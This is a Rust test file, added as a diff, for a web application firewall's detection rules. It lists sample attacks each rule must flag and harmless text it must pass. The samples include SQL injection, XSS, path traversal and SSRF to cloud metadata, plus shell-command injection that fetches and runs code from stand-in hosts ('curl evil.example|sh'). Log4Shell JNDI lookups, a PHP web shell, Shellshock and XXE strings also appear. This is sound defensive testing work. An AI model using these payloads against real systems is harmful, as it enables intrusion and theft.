@@ -1,0 +1,641 @@
+//! Each rule with examples it must catch and honest text it must let through.
+
+use super::*;
+
+fn shield() -> Shield {
+    Shield::new(InspectConfig::default()).unwrap()
+}
+
+fn encode(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// Inspects `value` as the query argument `q` of a GET request.
+fn arg(s: &Shield, value: &str) -> Inspection {
+    let q = format!("q={}", encode(value));
+    let headers: &[(&str, &[u8])] = &[
+        ("host", b"example.nl"),
+        (
+            "user-agent",
+            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+        ),
+    ];
+    s.inspect(&Facts {
+        method: "GET",
+        path: "/search",
+        query: Some(&q),
+        headers,
+        body: None,
+        profile: Profile::Public,
+        host_in_authority: false,
+    })
+}
+
+fn path(s: &Shield, p: &str) -> Inspection {
+    let headers: &[(&str, &[u8])] = &[("host", b"example.nl")];
+    s.inspect(&Facts {
+        method: "GET",
+        path: p,
+        query: None,
+        headers,
+        body: None,
+        profile: Profile::Public,
+        host_in_authority: false,
+    })
+}
+
+/// (rule, attacks it must flag, as a query argument)
+const POSITIVE: &[(u32, &[&str])] = &[
+    (
+        1001,
+        &[
+            "1' OR '1'='1",
+            "1 UNION SELECT password FROM users--",
+            "Robert'); DROP TABLE students;--",
+        ],
+    ),
+    (
+        1002,
+        &[
+            "0 union all select 1,2,3",
+            "x UNION/**/SELECT pass",
+            "1 UNION(SELECT 1)",
+        ],
+    ),
+    (
+        1003,
+        &[
+            "1 and sleep(5)",
+            "'; waitfor delay '0:0:5'--",
+            "benchmark(1000000,md5(1))",
+        ],
+    ),
+    (
+        1004,
+        &["1 union select table_name from information_schema.tables"],
+    ),
+    (
+        1005,
+        &["admin' or '1'='1", "x\" or \"a\"=\"a", "' OR 1 LIKE 1"],
+    ),
+    (
+        1006,
+        &["1; DROP TABLE users", "'; exec master..xp_cmdshell 'dir'"],
+    ),
+    (
+        1008,
+        &[
+            "1 and load_file('/etc/passwd')",
+            "select 1 into outfile '/tmp/x'",
+            "and extractvalue(1,concat(0x7e,version()))",
+        ],
+    ),
+    (1009, &["1 or 1=1", "x and 2>1", "' or true=true"]),
+    (
+        2001,
+        &["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"],
+    ),
+    (
+        2002,
+        &[
+            "<svg/onload=alert(1)>",
+            "<iframe src=//evil>",
+            "</script><script>",
+        ],
+    ),
+    (
+        2003,
+        &[
+            "\" onmouseover=\"alert(1)",
+            "x' onfocus='y",
+            "<body onload=x>",
+        ],
+    ),
+    (
+        2004,
+        &[
+            "javascript:alert(1)",
+            "JaVaScRiPt&colon;alert(1)",
+            "data:text/html;base64,PHNjcmlwdD4=",
+        ],
+    ),
+    (2006, &["document.cookie", "window.location='http://evil'"]),
+    (
+        3001,
+        &[
+            "../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "....//....//etc",
+            "%2e%2e%2f%2e%2e%2fetc",
+        ],
+    ),
+    (
+        3002,
+        &[
+            "/etc/passwd",
+            "/proc/self/environ",
+            "C:\\Windows\\System32\\drivers\\etc\\hosts",
+        ],
+    ),
+    (
+        3003,
+        &[
+            "php://filter/convert.base64-encode/resource=index",
+            "file:///etc/hosts",
+            "expect://id",
+        ],
+    ),
+    (
+        3101,
+        &["http://203.0.113.7/shell.txt", "https://[2001:db8::1]/x"],
+    ),
+    (
+        3102,
+        &[
+            "http://evil.example/shell.txt?",
+            "https://evil.example/backdoor.php",
+        ],
+    ),
+    (
+        3103,
+        &[
+            "gopher://127.0.0.1:6379/_SET",
+            "http://169.254.169.254/latest/meta-data/",
+        ],
+    ),
+    (
+        4001,
+        &[
+            "; whoami",
+            "| wget http://evil/x -O /tmp/x",
+            "`uname -a`",
+            "&& curl evil.example|sh",
+            "$(nslookup x.evil)",
+        ],
+    ),
+    (
+        4002,
+        &[";cat /etc/passwd", "| ls -la", "; id", "&& echo $PATH"],
+    ),
+    (
+        4003,
+        &[
+            "/bin/bash -i",
+            "cmd.exe /c dir",
+            "cat${IFS}/etc/passwd",
+            "powershell -enc AAAA",
+        ],
+    ),
+    (4004, &["() { :; }; /bin/bash -c id"]),
+    (4005, &["$(id)", "`cat /etc/passwd`"]),
+    (5001, &["<?php system($_GET['c']); ?>", "<?= `id` ?>"]),
+    (
+        5002,
+        &[
+            "system('id')",
+            "base64_decode('cGhwaW5mbygpOw==')",
+            "passthru ( 'ls' )",
+        ],
+    ),
+    (5003, &["$_GET['cmd']", "${$a}"]),
+    (5004, &["O:8:\"stdClass\":1:{s:1:\"a\";}"]),
+    (
+        6001,
+        &[
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:rmi://x/y}",
+            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
+        ],
+    ),
+    (
+        6002,
+        &[
+            "java.lang.Runtime",
+            "Class.forName('java.lang.Runtime').getRuntime().exec('id')",
+            "java.io.FileOutputStream",
+        ],
+    ),
+    (
+        6003,
+        &[
+            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+            "${#context['xwork.MethodAccessor.denyMethodExecution']}",
+        ],
+    ),
+    (6004, &["rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="]),
+    (
+        6006,
+        &["org.apache.commons.collections.functors.InvokerTransformer"],
+    ),
+    (
+        7001,
+        &[
+            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}",
+            "{\"__proto__\":{\"x\":1}}",
+        ],
+    ),
+    (
+        7002,
+        &[
+            "{{7*7}}",
+            "{{config.items()}}",
+            "${7*7}",
+            "{{''.__class__.__mro__[1]}}",
+            "{% import os %}",
+        ],
+    ),
+    (
+        7004,
+        &[
+            "{\"$where\": \"sleep(5000)\"}",
+            "'; return this.password == 'x",
+        ],
+    ),
+    (
+        7008,
+        &["<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"],
+    ),
+    (
+        8001,
+        &[
+            "<meta http-equiv=Set-Cookie content=\"sid=1\">",
+            "document.cookie=\"sid=1; path=/\"",
+        ],
+    ),
+];
+
+#[test]
+fn every_rule_catches_its_attacks() {
+    let s = shield();
+    for (rule, attacks) in POSITIVE {
+        for attack in *attacks {
+            let got = arg(&s, attack);
+            assert!(
+                got.rule_ids().contains(rule),
+                "rule {rule} missed {attack:?}: {:?}",
+                got.matches
+            );
+            let critical = RULES
+                .iter()
+                .find(|r| r.id == *rule)
+                .is_none_or(|r| r.severity == Severity::Critical);
+            if critical {
+                assert!(
+                    got.is_attack(DEFAULT_THRESHOLD),
+                    "{attack:?} scored only {}",
+                    got.score
+                );
+            }
+        }
+    }
+}
+
+/// Honest values that must pass: names, prose in several languages, searches, URLs, e-mail,
+/// prices, and the kind of code people paste into a contact form.
+const HONEST: &[&str] = &[
+    "O'Brien",
+    "D'Artagnan & Co",
+    "select a size",
+    "I love <3 cats",
+    "hello world",
+    "Ça va? Très bien!",
+    "Müller-Lüdenscheidt",
+    "Zoë's café",
+    "naïve résumé",
+    "日本語のテキスト",
+    "Привет, как дела?",
+    "مرحبا بالعالم",
+    "What's the difference between 'or' and 'and'?",
+    "Call me at +31 6 1234 5678",
+    "price: €12,50 (incl. VAT)",
+    "anneke@example.nl",
+    "https://www.example.com/page?x=1&y=2",
+    "http://example.org/docs/index.html",
+    "50% off -- today only!",
+    "Rock 'n' roll",
+    "We're open 9-17; closed on Sundays.",
+    "1 + 1 = 2",
+    "Hoe laat is het? Wij zijn om 9:00 open.",
+    "Die Straße ist schön.",
+    "El niño comió",
+    "Tom & Jerry; cats & dogs",
+    "Can I bring my dog; cat lovers welcome?",
+    "The alert (red) was lifted",
+    "size: 10 x 20 cm",
+    "C:\\Users\\Anneke\\Documents",
+    "Please select one option from the list below",
+    "Order by phone or e-mail",
+    "He said \"hello\" and left",
+    "1st, 2nd and 3rd place",
+    "item #42 (blue)",
+    "The script for the play is ready",
+    "<3 you all :)",
+    "if (a < b) { return b; }",
+    "SELECT name FROM products WHERE price < 10",
+    "let x = [1, 2, 3];",
+    "Where is the 'sale' page?",
+    "Is 5 > 3? Yes.",
+    "password reset please",
+    "My son's name is Ryan O'Neil",
+];
+
+#[test]
+fn honest_values_pass() {
+    let s = shield();
+    for honest in HONEST {
+        let got = arg(&s, honest);
+        assert!(
+            !got.is_attack(DEFAULT_THRESHOLD),
+            "{honest:?} blocked: {:?}",
+            got.matches
+        );
+    }
+}
+
+#[test]
+fn probes_and_traversal_in_the_path() {
+    let s = shield();
+    for p in [
+        "/.env",
+        "/.git/config",
+        "/wp-login.php",
+        "/phpmyadmin/index.php",
+        "/backup.sql",
+        "/index.php~",
+        "/cgi-bin/test.cgi",
+        "/a/../../etc/passwd",
+        "/%2e%2e/%2e%2e/etc/passwd",
+    ] {
+        assert!(path(&s, p).is_attack(DEFAULT_THRESHOLD), "{p} passed");
+    }
+    for p in [
+        "/",
+        "/about",
+        "/news/spring-market",
+        "/media/0123456789abcdef0123456789abcdef.png",
+        "/shell-company",
+        "/debugging-tips",
+        "/robots.txt",
+        "/favicon.ico",
+        "/caf%C3%A9",
+    ] {
+        let got = path(&s, p);
+        assert!(
+            !got.is_attack(DEFAULT_THRESHOLD),
+            "{p} blocked: {:?}",
+            got.matches
+        );
+    }
+}
+
+#[test]
+fn protocol_anomalies() {
+    let s = shield();
+    let base: Vec<(&str, &[u8])> = vec![("host", b"example.nl")];
+    let check = |method: &str, extra: &[(&str, &[u8])], body: Option<&[u8]>| {
+        let mut headers = base.clone();
+        headers.extend_from_slice(extra);
+        s.inspect(&Facts {
+            method,
+            path: "/",
+            query: None,
+            headers: &headers,
+            body,
+            profile: Profile::Public,
+            host_in_authority: false,
+        })
+    };
+    assert!(check("TRACE", &[], None).is_attack(5));
+    assert!(check("PUT", &[], None).is_attack(5));
+    assert!(
+        check(
+            "POST",
+            &[("content-length", b"3"), ("transfer-encoding", b"chunked")],
+            Some(b"a=1")
+        )
+        .is_attack(5)
+    );
+    assert!(
+        check("GET", &[("host", b"other.example")], None).is_attack(5),
+        "two Host headers"
+    );
+    assert!(check("POST", &[("content-type", b"text/plain")], Some(b"hello")).is_attack(5));
+    assert!(
+        check(
+            "POST",
+            &[(
+                "content-type",
+                b"application/x-www-form-urlencoded; charset=utf-7"
+            )],
+            Some(b"a=1")
+        )
+        .is_attack(5)
+    );
+    assert!(
+        check(
+            "GET",
+            &[("range", b"bytes=0-1,2-3,4-5,6-7,8-9,10-11")],
+            None
+        )
+        .is_attack(5)
+    );
+    assert!(!check("GET", &[("range", b"bytes=0-1023")], None).is_attack(5));
+    assert!(
+        !check(
+            "POST",
+            &[("content-type", b"application/x-www-form-urlencoded")],
+            Some(b"name=O%27Brien&msg=Hello+there")
+        )
+        .is_attack(5)
+    );
+    assert!(!check("OPTIONS", &[], None).is_attack(5));
+}
+
+#[test]
+fn bodies_headers_and_cookies_are_inspected() {
+    let s = shield();
+    let form: &[(&str, &[u8])] = &[
+        ("host", b"x"),
+        ("content-type", b"application/x-www-form-urlencoded"),
+    ];
+    let got = s.inspect(&Facts {
+        method: "POST",
+        path: "/contact",
+        query: None,
+        headers: form,
+        body: Some(b"name=x&msg=%3Cscript%3Ealert(1)%3C/script%3E"),
+        profile: Profile::Public,
+        host_in_authority: false,
+    });
+    assert!(
+        got.is_attack(5) && got.matches[0].location.starts_with("body:"),
+        "{got:?}"
+    );
+
+    let json: &[(&str, &[u8])] = &[("host", b"x"), ("content-type", b"application/json")];
+    let got = s.inspect(&Facts {
+        method: "POST",
+        path: "/api",
+        query: None,
+        headers: json,
+        body: Some(br#"{"user": {"$ne": null}, "q": "1 union select 1"}"#),
+        profile: Profile::Public,
+        host_in_authority: false,
+    });
+    assert!(got.rule_ids().contains(&1002), "{got:?}");
+
+    let ua: &[(&str, &[u8])] = &[("host", b"x"), ("user-agent", b"sqlmap/1.7")];
+    assert!(
+        s.inspect(&Facts {
+            method: "GET",
+            path: "/",
+            query: None,
+            headers: ua,
+            body: None,
+            profile: Profile::Public,
+            host_in_authority: false
+        })
+        .is_attack(5)
+    );
+    let shellshock: &[(&str, &[u8])] =
+        &[("host", b"x"), ("referer", b"() { :; }; /bin/bash -c 'id'")];
+    assert!(
+        s.inspect(&Facts {
+            method: "GET",
+            path: "/",
+            query: None,
+            headers: shellshock,
+            body: None,
+            profile: Profile::Public,
+            host_in_authority: false
+        })
+        .is_attack(5)
+    );
+    let cookie: &[(&str, &[u8])] = &[("host", b"x"), ("cookie", b"lang=nl; pref=' or 1=1--")];
+    assert!(
+        s.inspect(&Facts {
+            method: "GET",
+            path: "/",
+            query: None,
+            headers: cookie,
+            body: None,
+            profile: Profile::Public,
+            host_in_authority: false
+        })
+        .is_attack(5)
+    );
+    let multipart: &[(&str, &[u8])] = &[
+        ("host", b"x"),
+        ("content-type", b"multipart/form-data; boundary=XyZ"),
+    ];
+    let body = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n\r\nxx\r\n--XyZ--\r\n";
+    assert!(
+        s.inspect(&Facts {
+            method: "POST",
+            path: "/up",
+            query: None,
+            headers: multipart,
+            body: Some(body),
+            profile: Profile::Public,
+            host_in_authority: false
+        })
+        .is_attack(5)
+    );
+}
+
+#[test]
+fn editor_content_is_not_blocked_but_everything_else_is() {
+    let s = shield();
+    let form: &[(&str, &[u8])] = &[
+        ("host", b"x"),
+        ("content-type", b"application/x-www-form-urlencoded"),
+    ];
+    let body = b"body=%3Cscript%3Ealert(1)%3C/script%3E";
+    let editor = s.inspect(&Facts {
+        method: "POST",
+        path: "/_admin/pages/save",
+        query: None,
+        headers: form,
+        body: Some(body),
+        profile: Profile::EditorContent,
+        host_in_authority: false,
+    });
+    assert!(!editor.is_attack(5), "sanitised on output instead");
+    let q = s.inspect(&Facts {
+        method: "POST",
+        path: "/_admin/pages/save",
+        query: Some("x=1%27%20or%20%271%27=%271"),
+        headers: form,
+        body: Some(body),
+        profile: Profile::EditorContent,
+        host_in_authority: false,
+    });
+    assert!(q.is_attack(5));
+}
+
+#[test]
+fn disabled_rules_do_not_fire() {
+    let s = Shield::new(InspectConfig {
+        disabled_rules: vec![2001, 2002, 2003, 2005, 2008],
+        ..Default::default()
+    })
+    .unwrap();
+    let got = arg(&s, "<script>x</script>");
+    assert!(
+        !got.rule_ids().iter().any(|r| [2001, 2002].contains(r)),
+        "{got:?}"
+    );
+}
+
+#[test]
+fn huge_and_hostile_inputs_stay_linear_and_safe() {
+    let s = shield();
+    let long = "a'".repeat(50_000) + &"(".repeat(50_000) + &"%25".repeat(10_000);
+    let _ = arg(&s, &long);
+    let nested = "{\"a\":".repeat(10_000) + "1" + &"}".repeat(10_000);
+    let json: &[(&str, &[u8])] = &[("host", b"x"), ("content-type", b"application/json")];
+    let _ = s.inspect(&Facts {
+        method: "POST",
+        path: "/",
+        query: None,
+        headers: json,
+        body: Some(nested.as_bytes()),
+        profile: Profile::Public,
+        host_in_authority: false,
+    });
+    let bytes: Vec<u8> = (0..=255u8).cycle().take(100_000).collect();
+    let _ = s.inspect(&Facts {
+        method: "POST",
+        path: "/",
+        query: None,
+        headers: json,
+        body: Some(&bytes),
+        profile: Profile::Public,
+        host_in_authority: false,
+    });
+}
+
+#[test]
+fn every_rule_has_a_unique_id_and_compiles() {
+    let mut ids: Vec<u32> = RULES.iter().map(|r| r.id).collect();
+    ids.sort();
+    let n = ids.len();
+    ids.dedup();
+    assert_eq!(ids.len(), n, "duplicate rule ids");
+    for r in RULES {
+        assert!(
+            regex::Regex::new(r.pattern).is_ok(),
+            "rule {} does not compile",
+            r.id
+        );
+        assert!(!r.description.is_empty());
+    }
+}
